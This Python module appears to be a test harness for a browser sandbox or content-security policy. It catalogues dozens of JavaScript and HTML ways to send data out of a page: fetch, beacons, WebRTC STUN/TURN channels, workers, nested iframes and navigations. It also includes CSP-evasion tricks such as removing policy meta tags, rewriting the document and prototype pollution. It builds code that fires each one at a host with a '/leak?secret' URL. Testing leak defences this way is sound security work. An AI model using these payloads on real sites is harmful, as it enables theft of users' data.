"""Ways to get data out of a page.

Each is code that has `el`, an element, and the `URL` and `HOST` of a server, which it reaches from
a page that nothing protects.
"""

import json
from collections.abc import Mapping

_TAGS = {
    "image": "<img src=URL>",
    "image of several": "<img srcset='URL 1x'>",
    "picture": "<picture><source srcset=URL><img></picture>",
    "video": "<video src=URL preload=auto autoplay muted></video>",
    "poster": "<video poster=URL></video>",
    "audio": "<audio src=URL preload=auto></audio>",
    "image button": "<input type=image src=URL>",
    "svg image": "<svg><image href=URL width=9 height=9 /></svg>",
    "svg filter": (
        "<svg><filter id=f><feImage href=URL /></filter>"
        "<rect filter=url(#f) width=9 height=9 /></svg>"
    ),
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "frame": "<iframe src=URL></iframe>",
    "image in a nested document": '<iframe srcdoc="<img src=URL>"></iframe>',
    "refresh of a nested document": (
        "<iframe srcdoc=\"<meta http-equiv=refresh content='0;URL'>\"></iframe>"
    ),
    "base of a nested document": '<iframe srcdoc="<base href=URL><img src=x>"></iframe>',
    "style attribute": "<p style='background: url(URL)'>x</p>",
    "cursor and mask": "<p style='mask-image: url(URL)'>x</p>",
    "generated content": "<style>.leak::before { content: url(URL) }</style><p class=leak>x</p>",
    "style sheet that imports": "<style>@import 'URL';</style>",
    "font": (
        "<style>@font-face { font-family: leak; src: url(URL) }</style>"
        "<p style='font-family: leak'>x</p>"
    ),
    "background attribute": "<table background=URL><tr><td>x</table>",
}

_LINKS = {
    "stylesheet": "rel=stylesheet",
    "icon": "rel=icon",
    "prefetch": "rel=prefetch",
    "preload of an image": "rel=preload as=image",
    "preload of a script": "rel=preload as=script",
    "preload of data": "rel=preload as=fetch crossorigin",
    "preloaded module": "rel=modulepreload",
}

_CLICKS = {
    "link to a new window": "<a href=URL target=_blank></a>",
    "form to a new window": "<form action=URL target=_blank><button></button></form>",
    "form that posts to a new window": (
        "<form action=URL method=post target=_blank><button></button></form>"
    ),
    "ping of a link": "<a href='#here' ping=URL></a>",
}

_LEAVING_CLICKS = {
    "link": "<a href=URL></a>",
    "link out of the frame": "<a href=URL target=_top></a>",
    "link by the frame's name": "<a href=URL target=personal-page-cabinet></a>",
    "map": "<map><area href=URL></map>",
    "button of a form": "<form><button formaction=URL></button></form>",
    "form": "<form action=URL><button></button></form>",
    "form that posts": "<form action=URL method=post><button></button></form>",
    "form out of the frame": "<form action=URL target=_top><button></button></form>",
}

_IN_A_WORKER = {
    "worker that fetches": "fetch('URL')",
    "worker that imports scripts": "importScripts('URL')",
    "worker with a socket": "new WebSocket('ws://HOST/')",
    "worker that imports a module": "import('URL')",
}

_CONNECT = (
    "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${HOST}` }] });"
    "c.createDataChannel('leak');"
    "c.createOffer().then((offer) => c.setLocalDescription(offer))"
)

_CALLS = {
    "fetch": "fetch(URL)",
    "fetch that asks nobody": "fetch(URL, { mode: 'no-cors', method: 'POST', keepalive: true })",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL); x.send()",
    "XMLHttpRequest that waits": (
        "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()"
    ),
    "beacon": "navigator.sendBeacon(URL, 'secret')",
    "WebSocket": "new WebSocket(`ws://${HOST}/`)",
    "EventSource": "new EventSource(URL)",
    "image object": "new Image().src = URL",
    "audio object": "new Audio(URL).load()",
    "font object": "new FontFace('leak', `url(${URL})`).load()",
    "constructed sheet": (
        "const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(${URL}) }`);"
        "document.adoptedStyleSheets = [s]"
    ),
    "script": "const s = document.createElement('script'); s.src = URL; el.append(s)",
    "module script": (
        "const s = document.createElement('script'); s.type = 'module'; s.src = URL; el.append(s)"
    ),
    "script of a Blob": (
        "const s = document.createElement('script');"
        "s.src = window.URL.createObjectURL(new Blob([`fetch('${URL}')`])); el.append(s)"
    ),
    "dynamic import": "import(URL)",
    "audio worklet": "new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(URL)",
    "popup": "window.open(URL)",
    "html of another document": (
        "document.body.append("
        "new DOMParser().parseFromString(`<img src=${URL}>`, 'text/html').body)"
    ),
    "code of a nested document": (
        "const f = document.createElement('iframe'); el.append(f); f.contentWindow.fetch(URL)"
    ),
    "node of a nested document": (
        "const f = document.createElement('iframe'); el.append(f);"
        "f.contentDocument.body.innerHTML = `<img src=${URL}>`"
    ),
    "WebRTC": _CONNECT,
    "WebRTC over TCP": (
        "const c = new RTCPeerConnection({ iceServers: [{ urls: `turn:${HOST}?transport=tcp`,"
        " username: 'a', credential: 'b' }] });"
        "c.createDataChannel('leak');"
        "c.createOffer().then((offer) => c.setLocalDescription(offer))"
    ),
    "WebRTC of a nested document": (
        "const f = document.createElement('iframe'); el.append(f);"
        "const c = new f.contentWindow.RTCPeerConnection("
        "{ iceServers: [{ urls: `stun:${HOST}` }] });"
        "c.createDataChannel('leak');"
        "c.createOffer().then((offer) => c.setLocalDescription(offer))"
    ),
}

_IN_A_NESTED_DOCUMENT = {
    "script": "f.srcdoc = `<script>${CODE}<\\/script>`",
    "handler": "f.srcdoc = `<style onload=\"${CODE.replaceAll('\"', '&quot;')}\"></style>`",
    "address that is a script": "f.src = `javascript:${CODE}`",
    "script of a Blob": (
        "f.srcdoc = `<script src=${window.URL.createObjectURL(new Blob([CODE]))}><\\/script>`"
    ),
    "Blob as the document": (
        "f.src = window.URL.createObjectURL("
        "new Blob([`<script>${CODE}<\\/script>`], { type: 'text/html' }))"
    ),
}
"""A nested document has a fresh realm, with WebRTC, which no policy of the browser governs."""

_LEAVING_CALLS = {
    "location": "location.href = URL",
    "location.assign": "location.assign(URL)",
    "location.replace": "location.replace(URL)",
    "Navigation": "navigation.navigate(URL)",
    "location of the top window": "top.location.href = URL",
    "location of the parent": "parent.location.replace(URL)",
    "location of every frame of the page": (
        "for (let i = 0; i < parent.length; i++) { try { parent[i].location = URL } catch {} }"
        "try { parent.location = URL } catch {}"
    ),
    "window in place of the top one": "window.open(URL, '_top')",
    "window by the frame's name": "window.open(URL, 'personal-page-cabinet')",
    "refresh": "el.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;${URL}'>`)",
}

_IN_SIGHT = {
    "speculation rules": (
        "const s = document.createElement('script'); s.type = 'speculationrules';"
        "s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [URL] }] });"
        "el.append(s)"
    ),
}

_BREAKING = {
    "document that is written": (
        "document.open(); document.write(`<img src=${URL}>`); document.close()"
    ),
    "document that is written with a policy of its own": (
        "document.open(); document.write(`<meta http-equiv=Content-Security-Policy "
        'content="img-src *"><img src=${URL}>`); document.close()'
    ),
    "the policy taken out": (
        "document.querySelectorAll('meta').forEach((meta) => meta.remove()); fetch(URL)"
    ),
    # The cabinet that this breaks is put away by the page.
    "every global of the shim removed": (
        "for (const name of Object.getOwnPropertyNames(window)) {"
        " if (!['fetch', 'document', 'Image', 'el', 'URL'].includes(name))"
        " { try { delete window[name] } catch {} } }"
        "new Image().src = URL; fetch(URL)"
    ),
    "prototypes that are polluted": (
        "const stolen = [];"
        "for (const type of [Object, Array, Map, Promise, String, JSON, MessagePort]) {"
        "  const of = type.prototype ?? type;"
        "  for (const name of Object.getOwnPropertyNames(of)) { try {"
        "    const was = of[name];"
        "    if (typeof was === 'function' && name !== 'constructor') of[name] ="
        "      function (...all) { stolen[stolen.length] = this; return was.apply(this, all) }"
        "  } catch {} }"
        "}"
        "setTimeout(() => { new Image().src = URL }); fetch(URL)"
    ),
}


def _append(markup: str) -> str:
    return f"el.insertAdjacentHTML('beforeend', `{markup.replace('URL', '${URL}')}`)"


def _link(attributes: str) -> str:
    markup = f"<link href=${{URL}} {attributes}>"
    return f"document.head.insertAdjacentHTML('beforeend', `{markup}`)"


def _click(markup: str) -> str:
    return f"{_append(markup)}; [...el.querySelectorAll('a, area, button')].at(-1).click()"


def _worker(code: str) -> str:
    source = code.replace("URL", "${URL}").replace("HOST", "${HOST}")
    return f"new Worker(window.URL.createObjectURL(new Blob([`{source}`])))"


def _nested(code: str) -> str:
    source = f"`const HOST = '${{HOST}}';` + {json.dumps(_CONNECT)}"
    return f"const CODE = {source}, f = document.createElement('iframe'); {code}; el.append(f)"


TOGETHER = {
    **_CALLS,
    **{name: _append(markup) for name, markup in _TAGS.items()},
    **{f"link {name}": _link(attributes) for name, attributes in _LINKS.items()},
    **{f"click on a {name}": _click(markup) for name, markup in _CLICKS.items()},
    **{name: _worker(code) for name, code in _IN_A_WORKER.items()},
    **{f"WebRTC of a nested {name}": _nested(code) for name, code in _IN_A_NESTED_DOCUMENT.items()},
}
"""Those that leave the document as it is for the others."""

LEAVING = {
    **_LEAVING_CALLS,
    **{f"click on a {name}": _click(markup) for name, markup in _LEAVING_CLICKS.items()},
}
"""Those that take another document in the place of this one."""

ALONE = {**_IN_SIGHT, **LEAVING, **_BREAKING}
"""Those and others that need the document for themselves: untouched, or in a page that is seen."""

ATTEMPTS = {**TOGETHER, **ALONE}


NAVIGATIONS = {
    "location",
    "location.assign",
    "location.replace",
    "Navigation",
    "frame",
    "refresh of a nested document",
    "refresh",
    "window by the frame's name",
    "click on a link",
    "click on a link by the frame's name",
    "click on a map",
    "click on a button of a form",
    "click on a form",
    "click on a form that posts",
}
"""At these Chromium opens a connection, on which nothing is sent, before it asks the policy."""


def attempting(hosts: Mapping[str, str]) -> str:
    """Return code that makes each of the attempts named by `hosts`, at its own host."""
    attempts = (
        f"try {{ (function (HOST, URL, el) {{ {ATTEMPTS[name]} }})"
        f"('{host}', 'http://{host}/leak?secret', el.appendChild(document.createElement('div'))) }}"
        " catch (error) { console.debug(String(error)) }"
        for name, host in hosts.items()
    )
    return "\n".join(attempts)
